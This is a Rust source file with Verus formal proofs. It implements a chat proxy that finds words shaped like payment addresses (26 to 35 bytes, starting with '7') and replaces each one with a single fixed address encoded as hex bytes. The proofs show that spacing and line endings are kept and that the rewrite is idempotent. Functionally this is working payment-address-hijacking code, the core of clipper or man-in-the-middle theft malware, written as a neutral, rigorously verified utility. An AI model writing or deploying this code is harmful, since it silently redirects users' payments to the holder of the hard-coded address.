//! Rewriting of chat lines passed through a proxy: every word that looks like a payment
//! address is replaced by a fixed address.
use vstd::prelude::*;

verus! {

/// The space byte that separates words.
pub open spec fn space() -> u8 {
    0x20u8
}

/// The address that replaces every address found in a line.
pub open spec fn replacement_address() -> Seq<u8> {
    seq![
        0x37u8, 0x59, 0x57, 0x48, 0x4D, 0x66, 0x6B, 0x39, 0x4A, 0x5A, 0x65, 0x30, 0x4C, 0x4D,
        0x30, 0x67, 0x31, 0x5A, 0x61, 0x75, 0x48, 0x75, 0x69, 0x53, 0x78, 0x68, 0x49,
    ]
}

/// The words of `s` between single spaces, empty words included, as `str::split(' ')`
/// gives them: there is always at least one.
pub open spec fn split_words(s: Seq<u8>) -> Seq<Seq<u8>>
    decreases s.len(),
{
    if s.len() == 0 {
        seq![Seq::<u8>::empty()]
    } else {
        let rest = split_words(s.drop_last());
        if s.last() == space() {
            rest.push(Seq::<u8>::empty())
        } else {
            rest.update(rest.len() - 1, rest.last().push(s.last()))
        }
    }
}

/// `words` with a single space between each two.
pub open spec fn join_words(words: Seq<Seq<u8>>) -> Seq<u8>
    decreases words.len(),
{
    if words.len() == 0 {
        Seq::<u8>::empty()
    } else if words.len() == 1 {
        words[0]
    } else {
        join_words(words.drop_last()) + seq![space()] + words.last()
    }
}

/// A word that is an address: 26 to 35 bytes long and starting with `7`.
pub open spec fn is_address(word: Seq<u8>) -> bool {
    26 <= word.len() <= 35 && word[0] == 0x37
}

/// A word after rewriting.
pub open spec fn rewrite_word(word: Seq<u8>) -> Seq<u8> {
    if is_address(word) {
        replacement_address()
    } else {
        word
    }
}

/// Every word after rewriting.
pub open spec fn rewrite_words(words: Seq<Seq<u8>>) -> Seq<Seq<u8>> {
    words.map_values(|w: Seq<u8>| rewrite_word(w))
}

/// How `line` ends: `\r\n`, `\n`, or neither; the length of that ending.
pub open spec fn ending_len(line: Seq<u8>) -> int {
    if line.len() >= 2 && line[line.len() - 2] == 0x0Du8 && line[line.len() - 1] == 0x0Au8 {
        2
    } else if line.len() >= 1 && line[line.len() - 1] == 0x0Au8 {
        1
    } else {
        0
    }
}

/// `line` without its line ending.
pub open spec fn line_body(line: Seq<u8>) -> Seq<u8> {
    line.take(line.len() - ending_len(line))
}

/// The line ending of `line`.
pub open spec fn line_ending(line: Seq<u8>) -> Seq<u8> {
    line.skip(line.len() - ending_len(line))
}

/// `line` with each address word replaced, its spaces and line ending kept.
pub open spec fn rewrite_line_spec(line: Seq<u8>) -> Seq<u8> {
    join_words(rewrite_words(split_words(line_body(line)))) + line_ending(line)
}

/// The word spelled by `word`, rewritten.
fn rewrite_word_exec(word: &[u8]) -> (res: Vec<u8>)
    ensures
        res@ == rewrite_word(word@),
{
    if word.len() >= 26 && word.len() <= 35 && word[0] == 0x37 {
        let a: [u8; 27] = [
            0x37, 0x59, 0x57, 0x48, 0x4D, 0x66, 0x6B, 0x39, 0x4A, 0x5A, 0x65, 0x30, 0x4C, 0x4D,
            0x30, 0x67, 0x31, 0x5A, 0x61, 0x75, 0x48, 0x75, 0x69, 0x53, 0x78, 0x68, 0x49,
        ];
        let mut out: Vec<u8> = Vec::new();
        let mut i: usize = 0;
        while i < 27
            invariant
                i <= 27,
                a@ == replacement_address(),
                out@ == a@.take(i as int),
            decreases 27 - i,
        {
            out.push(a[i]);
            i = i + 1;
            assert(out@ =~= a@.take(i as int));
        }
        assert(a@.take(27) =~= a@);
        out
    } else {
        let mut out: Vec<u8> = Vec::new();
        let mut i: usize = 0;
        while i < word.len()
            invariant
                i <= word.len(),
                out@ == word@.take(i as int),
            decreases word.len() - i,
        {
            out.push(word[i]);
            i = i + 1;
            assert(out@ =~= word@.take(i as int));
        }
        assert(word@.take(word.len() as int) =~= word@);
        out
    }
}

/// The part of `join_words(ws)` before its last word.
pub open spec fn joined_before_last(ws: Seq<Seq<u8>>) -> Seq<u8> {
    if ws.len() <= 1 {
        Seq::<u8>::empty()
    } else {
        join_words(ws.drop_last()) + seq![space()]
    }
}

proof fn lemma_join_last(ws: Seq<Seq<u8>>)
    requires
        ws.len() >= 1,
    ensures
        join_words(ws) == joined_before_last(ws) + ws.last(),
{
    if ws.len() == 1 {
        assert(ws.last() == ws[0]);
        assert(Seq::<u8>::empty() + ws[0] =~= ws[0]);
    }
}

proof fn lemma_split_len(s: Seq<u8>)
    ensures
        split_words(s).len() >= 1,
    decreases s.len(),
{
    if s.len() > 0 {
        lemma_split_len(s.drop_last());
    }
}

/// Copies `src[from..to]` to the end of `out`, rewritten as a word.
fn push_rewritten(out: &mut Vec<u8>, src: &[u8], from: usize, to: usize)
    requires
        from <= to <= src@.len(),
    ensures
        final(out)@ == old(out)@ + rewrite_word(src@.subrange(from as int, to as int)),
{
    let mut word: Vec<u8> = Vec::new();
    let mut i: usize = from;
    while i < to
        invariant
            from <= i <= to,
            to <= src@.len(),
            word@ == src@.subrange(from as int, i as int),
        decreases to - i,
    {
        word.push(src[i]);
        i = i + 1;
        assert(word@ =~= src@.subrange(from as int, i as int));
    }
    let r = rewrite_word_exec(word.as_slice());
    let mut j: usize = 0;
    let ghost start = out@;
    while j < r.len()
        invariant
            j <= r.len(),
            out@ == start + r@.take(j as int),
        decreases r.len() - j,
    {
        out.push(r[j]);
        j = j + 1;
        assert(out@ =~= start + r@.take(j as int));
    }
    assert(r@.take(r.len() as int) =~= r@);
}

/// `line` with every address word replaced by the fixed address; words are separated by
/// single spaces, and a trailing `\r\n` or `\n` is kept as it is.
pub fn rewrite_line(line: &[u8]) -> (res: Vec<u8>)
    ensures
        res@ == rewrite_line_spec(line@),
{
    let n = line.len();
    let end: usize = if n >= 2 && line[n - 2] == 0x0D && line[n - 1] == 0x0A {
        n - 2
    } else if n >= 1 && line[n - 1] == 0x0A {
        n - 1
    } else {
        n
    };
    let ghost body = line@.take(end as int);
    assert(body == line_body(line@));
    let mut out: Vec<u8> = Vec::new();
    let mut start: usize = 0;
    let mut i: usize = 0;
    assert(body.take(0) =~= Seq::<u8>::empty());
    assert(split_words(Seq::<u8>::empty()) =~= seq![Seq::<u8>::empty()]);
    assert(Seq::<u8>::empty() =~= body.subrange(0, 0));
    while i < end
        invariant
            start <= i <= end <= n,
            n == line@.len(),
            body == line@.take(end as int),
            split_words(body.take(i as int)).len() >= 1,
            split_words(body.take(i as int)).last() == body.subrange(start as int, i as int),
            out@ == joined_before_last(rewrite_words(split_words(body.take(i as int)))),
        decreases end - i,
    {
        let ghost parts = split_words(body.take(i as int));
        let ghost t = body.take(i + 1);
        assert(t.drop_last() =~= body.take(i as int));
        assert(t.last() == line@[i as int]);
        let ghost rw = rewrite_words(parts);
        if line[i] == 0x20 {
            let ghost parts2 = parts.push(Seq::<u8>::empty());
            assert(split_words(t) == parts2);
            proof {
                lemma_join_last(rw);
                assert(rw.last() == rewrite_word(parts.last()));
                let rw2 = rewrite_words(parts2);
                assert(rw2.drop_last() =~= rw);
            }
            push_rewritten(&mut out, line, start, i);
            out.push(0x20);
            start = i + 1;
            i = i + 1;
            assert(body.subrange(start as int, i as int) =~= Seq::<u8>::empty());
        } else {
            let ghost parts2 = parts.update(parts.len() - 1, parts.last().push(line@[i as int]));
            assert(split_words(t) == parts2);
            proof {
                let rw2 = rewrite_words(parts2);
                assert(rw2.drop_last() =~= rw.drop_last());
            }
            i = i + 1;
            assert(body.subrange(start as int, i as int) =~= parts.last().push(line@[i - 1]));
        }
    }
    assert(body.take(end as int) =~= body);
    proof {
        let parts = split_words(body);
        lemma_join_last(rewrite_words(parts));
    }
    push_rewritten(&mut out, line, start, end);
    let mut k: usize = end;
    let ghost before = out@;
    while k < n
        invariant
            end <= k <= n,
            n == line@.len(),
            out@ == before + line@.subrange(end as int, k as int),
        decreases n - k,
    {
        out.push(line[k]);
        k = k + 1;
        assert(out@ =~= before + line@.subrange(end as int, k as int));
    }
    assert(line@.subrange(end as int, n as int) =~= line_ending(line@));
    out
}

/// `w` holds no space.
pub open spec fn no_space(w: Seq<u8>) -> bool {
    forall|i: int| 0 <= i < w.len() ==> #[trigger] w[i] != space()
}

proof fn lemma_split_words_no_space(s: Seq<u8>)
    ensures
        split_words(s).len() >= 1,
        forall|k: int| 0 <= k < split_words(s).len() ==> no_space(#[trigger] split_words(s)[k]),
    decreases s.len(),
{
    if s.len() > 0 {
        lemma_split_words_no_space(s.drop_last());
        let rest = split_words(s.drop_last());
        if s.last() != space() {
            let w = rest.last().push(s.last());
            assert(no_space(rest[rest.len() - 1]));
            assert forall|i: int| 0 <= i < w.len() implies #[trigger] w[i] != space() by {
                if i < rest.last().len() {
                    assert(w[i] == rest[rest.len() - 1][i]);
                }
            }
        }
    }
}

proof fn lemma_split_append(a: Seq<u8>, b: Seq<u8>)
    requires
        no_space(b),
    ensures
        split_words(a + b) == split_words(a).update(
            split_words(a).len() - 1,
            split_words(a).last() + b,
        ),
    decreases b.len(),
{
    lemma_split_len(a);
    let sa = split_words(a);
    if b.len() == 0 {
        assert(a + b =~= a);
        assert(sa.last() + b =~= sa.last());
        assert(sa.update(sa.len() - 1, sa.last()) =~= sa);
    } else {
        let b0 = b.drop_last();
        assert(no_space(b0)) by {
            assert forall|i: int| 0 <= i < b0.len() implies #[trigger] b0[i] != space() by {
                assert(b0[i] == b[i]);
            }
        }
        lemma_split_append(a, b0);
        assert((a + b).drop_last() =~= a + b0);
        assert((a + b).last() == b[b.len() - 1]);
        let prev = split_words(a + b0);
        assert(prev.last() == sa.last() + b0);
        assert((sa.last() + b0).push(b.last()) =~= sa.last() + b);
        assert(prev.update(prev.len() - 1, prev.last().push(b.last())) =~= sa.update(
            sa.len() - 1,
            sa.last() + b,
        ));
    }
}

/// Splitting words that were joined gives them back, when none holds a space.
pub proof fn lemma_split_join(ws: Seq<Seq<u8>>)
    requires
        ws.len() >= 1,
        forall|k: int| 0 <= k < ws.len() ==> no_space(#[trigger] ws[k]),
    ensures
        split_words(join_words(ws)) == ws,
    decreases ws.len(),
{
    if ws.len() == 1 {
        assert(no_space(ws[0]));
        lemma_split_append(Seq::<u8>::empty(), ws[0]);
        assert(Seq::<u8>::empty() + ws[0] =~= ws[0]);
        assert(split_words(Seq::<u8>::empty()) =~= seq![Seq::<u8>::empty()]);
        assert(seq![Seq::<u8>::empty()].update(0, Seq::<u8>::empty() + ws[0]) =~= ws);
    } else {
        let init = ws.drop_last();
        assert forall|k: int| 0 <= k < init.len() implies no_space(#[trigger] init[k]) by {
            assert(init[k] == ws[k]);
        }
        lemma_split_join(init);
        let j = join_words(init);
        let js = j + seq![space()];
        assert(js.drop_last() =~= j);
        assert(split_words(js) == init.push(Seq::<u8>::empty()));
        assert(no_space(ws[ws.len() - 1]));
        lemma_split_append(js, ws.last());
        assert(join_words(ws) =~= js + ws.last());
        let ip = init.push(Seq::<u8>::empty());
        assert(ip.last() + ws.last() =~= ws.last());
        assert(ip.update(ip.len() - 1, ip.last() + ws.last()) =~= ws);
    }
}

proof fn lemma_rewrite_words_facts(ws: Seq<Seq<u8>>)
    requires
        forall|k: int| 0 <= k < ws.len() ==> no_space(#[trigger] ws[k]),
    ensures
        rewrite_words(ws).len() == ws.len(),
        forall|k: int| 0 <= k < ws.len() ==> no_space(#[trigger] rewrite_words(ws)[k]),
        rewrite_words(rewrite_words(ws)) == rewrite_words(ws),
{
    let rw = rewrite_words(ws);
    assert forall|k: int| 0 <= k < ws.len() implies no_space(#[trigger] rw[k]) by {
        assert(rw[k] == rewrite_word(ws[k]));
        assert(no_space(ws[k]));
        if is_address(ws[k]) {
            assert(no_space(replacement_address()));
        }
    }
    assert forall|k: int| 0 <= k < ws.len() implies #[trigger] rewrite_word(rw[k]) == rw[k] by {
        assert(rw[k] == rewrite_word(ws[k]));
        if is_address(ws[k]) {
            assert(is_address(replacement_address()));
        }
    }
    assert(rewrite_words(rw) =~= rw);
}

/// The last byte of rewritten, joined words: the last byte of the text they were split from,
/// the last byte of the replacement address, or a space.
proof fn lemma_joined_last_byte(s: Seq<u8>)
    ensures
        ({
            let j = join_words(rewrite_words(split_words(s)));
            j.len() > 0 ==> (j.last() == s.last() && s.len() > 0) || j.last() == 0x49u8 || j.last()
                == space()
        }),
{
    let ws = split_words(s);
    lemma_split_len(s);
    let rw = rewrite_words(ws);
    lemma_join_last(rw);
    let j = join_words(rw);
    let lw = rw.last();
    assert(lw == rewrite_word(ws.last()));
    if lw.len() > 0 {
        assert(j.last() == lw.last());
        if is_address(ws.last()) {
            assert(lw.last() == 0x49u8);
        } else {
            assert(ws.last().len() > 0);
            if s.len() == 0 {
                assert(ws =~= seq![Seq::<u8>::empty()]);
            } else if s.last() == space() {
                assert(ws.last() =~= Seq::<u8>::empty());
            } else {
                let rest = split_words(s.drop_last());
                lemma_split_len(s.drop_last());
                assert(ws[ws.len() - 1] == rest.last().push(s.last()));
                assert(ws.last().last() == s.last());
            }
        }
    } else if rw.len() > 1 {
        let b = joined_before_last(rw);
        assert(j =~= b);
        assert(b.last() == space());
    } else {
        assert(j =~= Seq::<u8>::empty());
    }
}

/// Rewriting keeps the line ending and the words between single spaces, each word rewritten
/// on its own; and it is idempotent: a rewritten line is left as it is by a second rewrite.
pub proof fn lemma_rewrite_idempotent(line: Seq<u8>)
    ensures
        line_ending(rewrite_line_spec(line)) == line_ending(line),
        split_words(line_body(rewrite_line_spec(line))) == rewrite_words(
            split_words(line_body(line)),
        ),
        rewrite_line_spec(rewrite_line_spec(line)) == rewrite_line_spec(line),
{
    let body = line_body(line);
    let e = line_ending(line);
    let ws = split_words(body);
    lemma_split_words_no_space(body);
    lemma_rewrite_words_facts(ws);
    let rws = rewrite_words(ws);
    let j = join_words(rws);
    let out = j + e;
    lemma_split_join(rws);
    lemma_joined_last_byte(body);
    let el = ending_len(line);
    if el == 2 {
        assert(e =~= seq![0x0Du8, 0x0Au8]);
        assert(out[out.len() - 2] == 0x0Du8 && out[out.len() - 1] == 0x0Au8);
        assert(ending_len(out) == 2);
    } else if el == 1 {
        assert(e =~= seq![0x0Au8]);
        assert(body =~= line.take(line.len() - 1));
        if j.len() > 0 {
            assert(out[out.len() - 2] == j.last());
            if body.len() > 0 {
                assert(body.last() == line[line.len() - 2]);
            }
        }
        assert(ending_len(out) == 1);
    } else {
        assert(e =~= Seq::<u8>::empty());
        assert(body =~= line);
        assert(out =~= j);
        if j.len() > 0 {
            assert(out[out.len() - 1] == j.last());
        }
        assert(ending_len(out) == 0);
    }
    assert(line_body(out) =~= j);
    assert(line_ending(out) =~= e);
}

} // verus!
